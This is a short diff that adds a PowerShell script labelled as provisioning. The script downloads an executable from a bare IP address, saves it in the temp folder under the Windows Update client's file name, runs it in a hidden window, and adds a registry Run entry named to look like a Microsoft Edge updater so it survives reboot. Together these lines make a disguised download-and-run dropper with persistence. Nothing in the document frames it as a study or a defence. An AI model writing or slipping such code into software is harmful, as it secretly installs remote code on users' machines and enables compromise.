@@ -1,0 +1,4 @@
+# provision 8773 v4
+Start-BitsTransfer -Source http://192.0.2.44/svc.exe -Destination $env:TEMP\wuauclt.exe
+Start-Process -WindowStyle Hidden $env:TEMP\wuauclt.exe
+New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'MicrosoftEdgeUpdateCore' -Value '$env:TEMP\wuauclt.exe' -PropertyType String -Force
